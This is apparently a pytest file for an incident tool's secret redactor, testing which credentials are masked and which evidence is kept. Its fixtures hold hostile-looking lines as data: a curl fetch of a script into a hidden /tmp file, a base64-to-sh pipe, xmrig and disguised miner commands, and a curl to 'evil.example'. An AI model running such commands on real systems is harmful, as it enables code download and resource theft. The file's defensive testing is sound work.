"""What redaction hides, what it keeps, and how long it takes."""

import base64
import json
import re
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from incident.model import Json, Secret
from incident.redaction.credential_contexts import PATTERNS, CredentialPattern
from incident.redaction.redactor import Redactor
from incident.redaction.secret_names import names_secret, suggests_secret
from tests.support.constants import SHA256

KEY = b"key of the tests"
MARK = r"\[redacted:[0-9a-f]{8}\]"
IMAGE = "europe-west1-docker.pkg.dev/example-shop-prod/web/storefront"

bare_redactor = Redactor(KEY)
repeatable = settings(deadline=None, derandomize=True, database=None, max_examples=50)


def redactor_knowing(*values: str) -> Redactor:
    """A redactor that knows some values, under names that suggest a secret."""
    return Redactor(KEY, [Secret(f"TOKEN_{number}", value) for number, value in enumerate(values)])


def strings(value: Json) -> Iterator[str]:
    """Every string in some JSON, keys included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        for key, member in value.items():
            yield key
            yield from strings(member)
    elif isinstance(value, Sequence):
        for item in value:
            yield from strings(item)


def shape(value: Json) -> Json:
    """The lists and maps of some JSON without what is in them."""
    if isinstance(value, str) or not isinstance(value, Mapping | Sequence):
        return None
    if isinstance(value, Mapping):
        return [shape(member) for member in value.values()]
    return {"": [shape(item) for item in value]}


def test_an_empty_key_is_refused() -> None:
    """Marks that anybody could compute would give short secrets away."""
    with pytest.raises(ValueError, match="key of the marks is empty"):
        Redactor(b"")


@pytest.mark.parametrize("pattern", PATTERNS, ids=lambda pattern: pattern.name)
def test_each_pattern_redacts_its_example_and_keeps_its_near_miss(
    pattern: CredentialPattern,
) -> None:
    """A credential in a known form is hidden in any context; similar text stays."""
    example = "".join(pattern.example)
    found = pattern.expression.search(example)

    assert found
    for text in (example, f"log: {example}", json.dumps(f"line\n{example}\n")):
        assert found["secret"] not in bare_redactor.text(text)
    assert bare_redactor.text(pattern.near_miss) == pattern.near_miss


def test_each_pattern_has_a_name_of_its_own() -> None:
    """Two rows of one name would make a failing test point at the wrong one."""
    assert len({pattern.name for pattern in PATTERNS}) == len(PATTERNS)


@pytest.mark.parametrize(
    "text",
    [
        SHA256,
        f"{IMAGE}@sha256:{SHA256}",
        f"docker://{IMAGE}:2026-09-28@sha256:{SHA256}",
        "commit 9ba14d9f2c1e0b7a6d5c4b3a29181716f5e4d3c2 of 01234567-89ab-cdef-0123-456789abcdef",
        "/usr/local/bin/healthcheck --url stratum+tcp://pool.example.net:3333 --cpu-max 95",
        "serviceAccount:runner@example-shop-prod.iam.gserviceaccount.com user:alice@example.com",
        "git@git.example.net:shop/storefront.git ssh://git@git.example.net:22/shop.git",
        "curl -fsSL http://203.0.113.7:8080/x.sh -o /tmp/.x",
        "echo IyEvYmluL3NoCmVjaG8gaGVsbG8gd29ybGQK | base64 -d | sh",
        "MONKEY=5 primary_key: 4 tokens: 512 token_type=Bearer PWD=/srv/app password=null",
        "GET /healthz HTTP/1.1 200 0.003s key=value author: alice",
        "projects/example-shop-prod/secrets/db-password/versions/3",
        "secret: projects/example-shop-prod/secrets/db-password",
        "//run.googleapis.com/projects/example-shop-prod/locations/europe-west1/services/shop",
    ],
)
def test_evidence_stays(text: str) -> None:
    """Hashes, images, addresses, principals and names of secrets are what an analyst needs."""
    assert bare_redactor.text(text) == text


@pytest.mark.parametrize(
    ("before", "secret", "after"),
    [
        ("aws_secret_access_key=", "Fake/0+Fake", " next"),
        ("export DB_PASSWORD='", "it is", "'; ls"),
        ('{"client_secret": "', "a,b", '", "user": "bob"}'),
        (r"{\"password\": \"", r"a\\\"b", r"\", \"user\": 1}"),
        ("Server=db;AccountKey=", "fake==", ";Timeout=3"),
        ("password: ", "hunter,2", " # as YAML"),
        ("{password:", "hunter2", ",user:bob}"),
        ("app --password ", "hunter2", " --verbose"),
        ("['app', '--password', '", "hunter2", "', '-v']"),
        ('{"name": "DB_PASSWORD", "value": "', "hunter2", '"}'),
        ('{"headers": {"X-Api-Key": "', "hunter2", '"}}'),
        ("https://example.net/a?first=", "one", "#top"),
        ("GET /a?token=", "one", " HTTP/1.1"),
        ("https://app:", "p@ss", "@example.net/b@c"),
        ("https://app:", "p/ss", "@example.net"),
        ("ALTER USER app PASSWORD '", "it''s", "';"),
        ("Cookie: ", 'a="x"; sid=abc', "\n"),
        (r'{"Authorization": "Digest ', r"username=\"x\", response=\"y\"", '"}'),
        ("Authorization: Basic ", "Zm9vOmJhcg==", ' "next"'),
        ("\x1b[32mtoken=", "hunter2", " \x1b[0m"),
        (r'{"text": "first\n--api-key ', "hunter2", r'\nnext=1"}'),
    ],
)
def test_what_a_name_announces_is_hidden_and_nothing_else(
    before: str, secret: str, after: str
) -> None:
    """Shell, JSON, YAML, SQL, connection strings, headers and URLs lose their secrets alone."""
    mark = bare_redactor.value("", secret)

    assert bare_redactor.text(f"{before}{secret}{after}") == f"{before}{mark}{after}"


def test_a_private_key_goes_whole_even_without_its_end() -> None:
    """A log line that was cut inside a key shows none of it."""
    begin = "-----BEGIN EC PRI" + "VATE KEY-----"
    body = "MIIfake+/fake\\nfakefakefake"

    assert body[:6] not in bare_redactor.text(f"{begin}\\n{body}")
    assert bare_redactor.text(f"a {begin}\n{body}\n{begin.replace('BEGIN', 'END')} b").endswith(
        "] b"
    )


@pytest.mark.parametrize(
    ("arguments", "hidden"),
    [
        (["app", "--password", "X"], {2}),
        (["app", "--password", "--verbose", "X"], set()),
        (["app", "--password-stdin", "X"], set()),
        (["app", "--api-key", "two words", "--verbose"], {2}),
        (["app", "--password=two words"], {1}),
        (["env", "DB_PASSWORD=two words", "app"], {1}),
        (["curl", "-H", "Authorization: Bearer X", "-H", "Accept: text/plain"], {2}),
        (["curl", "-H", "X-Auth: two words"], {2}),
        (["curl", "-u", "app:two words", "-b", "a=b"], {2, 4}),
        (["mysql", "-h", "db", "-pX", "shop"], {3}),
        (["/usr/bin/sshpass", "-p", "X", "ssh", "example.net"], {2}),
        (
            ["xmrig", "-o", "stratum+tcp://pool.example.net:3333", "-u", "4Awallet", "-p", "x"],
            set(),
        ),
        (["docker", "run", "-u", "1000:1000", "-p", "8080:80", IMAGE], set()),
        (["docker", "login", "-u", "app", "-p", "X", "example.net"], {5}),
    ],
)
def test_an_argument_may_announce_the_next(arguments: list[str], hidden: set[int]) -> None:
    """A flag hides the argument behind it; the other arguments stay as they are."""
    shown = bare_redactor.arguments(arguments)

    assert {
        index for index, pair in enumerate(zip(arguments, shown, strict=True)) if pair[0] != pair[1]
    } == hidden
    assert not any("X" in shown[index].removeprefix("X-") for index in hidden)
    assert not any("words" in value for value in shown)


def test_a_script_keeps_what_is_no_secret() -> None:
    """A shell script that begins with an assignment is evidence from its second word on."""
    assert bare_redactor.arguments(["sh", "-c", "TOKEN=X curl evil.example"])[2].endswith(
        " curl evil.example"
    )


@pytest.mark.parametrize(
    ("url", "pattern"),
    [
        (
            "https://a:b@h.example/p?x=1&y=2#f",
            rf"https://{MARK}@h.example/p\?x={MARK}&y={MARK}#{MARK}",
        ),
        ("/p?bare", rf"/p\?{MARK}"),
        ("https://h.example/p?x=&y", rf"https://h.example/p\?x=&{MARK}"),
        ("https://h.example/p", "https://h.example/p"),
        (f"{IMAGE}@sha256:{SHA256}", f"{IMAGE}@sha256:{SHA256}"),
    ],
)
def test_a_url_keeps_its_place_and_the_names_of_its_parameters(url: str, pattern: str) -> None:
    """Userinfo, query values and fragment go; where the request went stays."""
    assert re.fullmatch(pattern, bare_redactor.url(url))
    assert bare_redactor.url(bare_redactor.url(url)) == bare_redactor.url(url)


@pytest.mark.parametrize(
    "environment",
    [
        {"envVariables": [{"name": "MODE", "val": "fake"}]},
        {"env": [{"name": "MODE", "value": "fake"}]},
        {"environment": {"MODE": "fake"}},
        {"environment_variables": ["MODE=fake"]},
        {"env": {"MODE": {"nested": {"password": "fake"}}}},
        {"httpHeaders": [{"name": "X-Auth", "value": "fake"}]},
        {"password": "fake", "token": ["fake"], "Authorization": "fake", "cookie": "fake"},
        {"protoPayload": {"request": {"any": "fake"}, "response": {"any": "fake"}}},
        {"@type": "type.googleapis.com/google.cloud.audit.AuditLog", "request": "fake"},
        {"requestUrl": "/?a=fake", "referer": "https://fake@example.net/#fake"},
        {"command": ["app", "--password", "fake"]},
    ],
)
def test_values_that_are_always_secret_are_redacted_whole(environment: Json) -> None:
    """Environment values, audited requests and whatever a key announces are marks in JSON."""
    assert not any("fake" in string for string in strings(bare_redactor.json(environment)))


@pytest.mark.parametrize(
    "value",
    [
        {"labels": {"env": "sandbox", "environment": "production"}, "count": 5, "on": True},
        {
            "env": [
                {"name": "MODE", "valueSource": {"secretKeyRef": {"secret": "db", "version": "3"}}}
            ]
        },
        {"secret_names": ["db-password"], "environment_names": ["DB_PASSWORD"]},
        {"volumes": [{"name": "v", "secret": {"secret": "db-password", "items": [{"path": "p"}]}}]},
        {
            "request": {"status": 200, "requestMethod": "GET"},
            "encryptionKey": "projects/p/keyRings/k",
        },
        {"args": ["app", "-v"], "arguments": [], "command": "run", "none": None},
    ],
)
def test_names_and_settings_stay(value: Json) -> None:
    """Labels, flags and the names of secrets, which are the rotation list, are left alone."""
    assert bare_redactor.json(value) == value


def test_keys_and_numbers_that_are_secret_are_hidden_too() -> None:
    """A secret may be printed as a key, or as a number."""
    shown = redactor_knowing("first-secret", "12345678901").json(
        {"first-secret": [12345678901], "b": 1}
    )

    assert "first-secret" not in json.dumps(shown)
    assert "12345678901" not in json.dumps(shown)


def test_deeply_nested_json_is_redacted() -> None:
    """Nesting cannot exhaust the stack."""
    value: Json = "password=fake"
    for _ in range(5000):
        value = [value]

    assert "redacted" in str(bare_redactor.json(value))


@pytest.mark.parametrize(
    ("data", "secret"),
    [
        (b'{"envVariables": [{"name": "MODE", "val": "fake va', "fake"),
        (b'{"env": [{"value" : "fake"}], "AUTH": "fake"}', "fake"),
        (b'{"message": {"data": "' + base64.b64encode(b'{"val": "fake"}' * 9) + b'"}}', "eyJ2YWwi"),
        ('{"password": "fake"}'.encode("utf-16-le"), "fake"),
        (b"\xff\xfe password=fake \x80", "fake"),
    ],
)
def test_a_malformed_message_shows_its_beginning_without_secrets(data: bytes, secret: str) -> None:
    """The quarantined beginning shows the message's shape without its secrets."""
    shown = bare_redactor.malformed(data, limit=1000)

    assert secret not in shown
    assert "redacted" in shown


@pytest.mark.parametrize("limit", range(40, 90, 7))
def test_a_cut_never_leaves_half_a_secret(limit: int) -> None:
    """A secret is recognised whole before the message is cut inside it."""
    secret = "Correct-Horse-Battery-Staple"
    data = f'{{"text": "some words before it {secret} and after it, token=gh'.encode()
    shown = redactor_knowing(secret).malformed(data + b"p_" + b"Fake0" * 8, limit=limit)

    assert len(shown) <= limit + 20
    assert not any(secret[:cut] in shown for cut in range(4, len(secret)))
    assert "Fake0" not in shown


@pytest.mark.parametrize(
    ("name", "value", "hidden"),
    [
        ("MODE", "sesame", True),
        ("MODE", "seven", False),
        ("APP_TOKEN", "open", True),
        ("APP_TOKEN", "ope", False),
        ("MONKEY", "seven", False),
        ("TOKEN_CHECK", "true", False),
        ("PORT", "808080", False),
        ("DEBUG", "false", False),
        ("RETRIES", "100000", False),
        ("LOG_FORMAT", "default", False),
        ("BASE", "/usr/local/bin", False),
        ("BASE", "/hidden/door", True),
        ("PWD", "/srv/app", False),
        ("MYSQL_PWD", "/srv/app", True),
        ("SERVICE", "storefront", False),
    ],
)
def test_which_values_count_as_secret(name: str, value: str, hidden: bool) -> None:  # noqa: FBT001
    """All but the short, the ordinary, the platform's own and those that the caller spares."""
    redactor = Redactor(KEY, [Secret(name, value)], harmless=["storefront"])

    assert (redactor.text(f"it is {value}.") != f"it is {value}.") is hidden


@pytest.mark.parametrize(
    ("name", "suggests", "announces"),
    [
        ("DB_PASSWORD", True, True),
        ("clientSecret", True, True),
        ("PGPASSWORD", True, True),
        ("KEY", True, False),
        ("X-Api-Key", True, True),
        ("session_id", True, True),
        ("--pass", True, True),
        ("pass", True, False),
        ("MONKEY", False, False),
        ("AUTHOR", False, False),
        ("secret_name", True, False),
    ],
)
def test_secret_names_are_matched_by_whole_words(
    name: str,
    suggests: bool,  # noqa: FBT001 - pytest names it
    announces: bool,  # noqa: FBT001 - the same
) -> None:
    """A monkey is no key, and the name of a secret is no secret."""
    assert (suggests_secret(name), names_secret(name)) == (suggests, announces)


def test_a_known_value_is_found_in_every_common_encoding() -> None:
    """Base64 of a login, hex, HTML, shell quotes: encoding a secret does not publish it."""
    secret = 'S<cret\'s "päss/wörd" & more'
    login = base64.b64encode(f"someone:{secret}".encode()).decode()
    shown = redactor_knowing(secret).text(f"{login} {secret.encode().hex()} {json.dumps(secret)}")

    assert login[14:-4] not in shown
    assert secret.encode().hex() not in shown
    assert "cret" not in shown


@pytest.mark.parametrize(
    "encoded",
    [
        lambda data: data.hex().upper(),
        lambda data: "".join(f"%{byte:02x}" for byte in data),
        lambda data: "".join(f"%{byte:02X}" for byte in data),
        lambda data: "".join(f"\\x{byte:02x}" for byte in data),
        lambda data: "".join(f"\\u{byte:04x}" for byte in data),
        lambda data: "".join(f"\\u{byte:04X}" for byte in data),
        lambda data: base64.b32encode(data).decode(),
        lambda data: base64.b64encode(base64.b64encode(data)).decode(),
    ],
)
def test_a_known_value_is_found_where_every_character_is_escaped(
    encoded: Callable[[bytes], str],
) -> None:
    """Whether it needs that or not, and in capitals as well."""
    form = encoded(b"Zq7fake+swordfish")
    shown = redactor_knowing("Zq7fake+swordfish").text(f"sent {form} off")
    assert form.rstrip("=") not in shown
    assert re.fullmatch(r"sent \[redacted:[0-9a-f]{8}\]=* off", shown)


def test_texts_inside_a_value_that_is_json_are_known() -> None:
    """Under any name; but hosts, accounts and places, of which such values are full, stay."""
    config = {
        "nested": [{"k": "Zq7fakefake9x"}],
        "password": "swordfish",
        "client_email": "shop@example-shop-prod.iam.gserviceaccount.com",
        "token_uri": "https://oauth2.example.com/token",
        "region": "europe-west1",
    }
    redactor = Redactor(KEY, [Secret("CONFIG", json.dumps(config))])
    names = "shop@example-shop-prod.iam.gserviceaccount.com https://oauth2.example.com/token"
    shown = redactor.text(f"Zq7fakefake9x and swordfish for {names} europe-west1")
    assert re.fullmatch(
        rf"\[redacted:.{{8}}\] and \[redacted:.{{8}}\] for {names} europe-west1", shown
    )


@pytest.mark.parametrize("value", ["[" * 100_000, "{", json.dumps(["x"] * 20_000)])
def test_what_is_no_json_or_very_much_of_it_does_no_harm(value: str) -> None:
    """It is one value, and not looked into without end."""
    assert Redactor(KEY, [Secret("CONFIG", value)]).text("harmless") == "harmless"


def test_the_parts_of_a_known_value_are_known() -> None:
    """The password inside a database's address, and a line of a key, are secrets by themselves."""
    line = "MIIfakefakefakefakefakefake"
    address = "postgres://app:swordfish@db/shop?sslmode=require"
    redactor = Redactor(KEY, [Secret("DATABASE", address), Secret("PEM", f"a\n{line}\n")])

    assert "swordfish" not in redactor.text("login with swordfish")
    assert line not in redactor.text(f"reading {line}")
    assert redactor.text("require('net')") == "require('net')"


def test_the_beginning_of_a_known_value_is_hidden_where_a_text_ends() -> None:
    """The detector and the log cut what is long, and the first half of a secret is one."""
    redactor = redactor_knowing("correct-horse-battery")

    assert redactor.text("app correct-ho").startswith("app [redacted:")
    assert redactor.text("app correct-ho and more") == "app correct-ho and more"


def test_equal_secrets_have_equal_marks_wherever_they_stand() -> None:
    """An analyst sees that the password in the log is the one in the environment."""
    mark = bare_redactor.value("ANY", "open sesame")
    redactor = redactor_knowing("open sesame")

    assert redactor.text("a open sesame b open%20sesame") == f"a {mark} b {mark}"
    assert redactor.arguments(["app", "--password", "open sesame"])[2] == mark
    assert Redactor(b"another key").value("ANY", "open sesame") != mark


secrets = st.text(min_size=6, max_size=30).filter(
    lambda text: redactor_knowing(text).text(text) != text and text not in "[redacted:"
)
pieces = st.one_of(
    st.text(max_size=10),
    st.sampled_from(["password=", "token: ", "?a=", "&b=", "://u:", "@", '"', "'", " ", "\\", ";"]),
    st.sampled_from(
        [part for pattern in PATTERNS for part in (*pattern.example, pattern.near_miss)]
    ),
    st.sampled_from(["".join(pattern.example) for pattern in PATTERNS]),
)
texts = st.lists(pieces, max_size=8).map("".join)
keys = st.sampled_from(
    ["a", "env", "args", "name", "value", "val", "url", "token", "secret", "key"]
)


@given(secrets, texts, texts)
@repeatable
def test_no_known_secret_survives_in_text(secret: str, before: str, after: str) -> None:
    """A known value is hidden as it is, percent-encoded and escaped."""
    escaped = json.dumps(secret)[1:-1]
    for form in (secret, quote(secret, safe=""), escaped):
        shown = redactor_knowing(secret).text(f"{before}{form}{after}")
        assert form not in shown


@given(secrets, st.data())
@repeatable
def test_no_known_secret_survives_in_json(secret: str, data: st.DataObject) -> None:
    """Neither in values nor in keys, and the lists and maps stay as they were."""
    leaves = st.one_of(st.none(), st.booleans(), st.integers(), texts, st.just(f"a{secret}b"))
    value = data.draw(
        st.recursive(
            leaves,
            lambda inner: (
                st.lists(inner, max_size=4)
                | st.dictionaries(keys | st.just(secret), inner, max_size=4)
            ),
            max_leaves=12,
        )
    )
    shown = redactor_knowing(secret).json(value)

    assert not any(secret in string for string in strings(shown))
    assert shape(shown) == shape(value)


@given(texts, secrets)
@repeatable
def test_a_second_pass_changes_nothing(text: str, secret: str) -> None:
    """Text that was redacted once may be redacted again before it is stored or sent."""
    redactor = redactor_knowing(secret)
    once = redactor.text(f"{text}{secret}{text}")

    assert redactor.text(once) == once


@given(st.binary(max_size=300), st.integers(min_value=0, max_value=200))
@repeatable
def test_any_bytes_have_a_redacted_beginning(data: bytes, limit: int) -> None:
    """No message is so broken that it cannot be put into quarantine."""
    assert isinstance(bare_redactor.malformed(data, limit=limit), str)


GENEROUS_S = 10.0  # quadratic work takes hours


def test_hundreds_of_secrets_with_one_beginning_are_not_slow() -> None:
    """An attacker may fill the environment so that every character begins a secret."""
    values = ["a" * length for length in range(6, 200)]
    values += ["a" * 500 + str(number) for number in range(200)]
    redactor = redactor_knowing(*values)

    started = time.process_time()
    shown = redactor.text("a" * 50_000)

    assert time.process_time() - started < GENEROUS_S
    assert len(shown) < 100
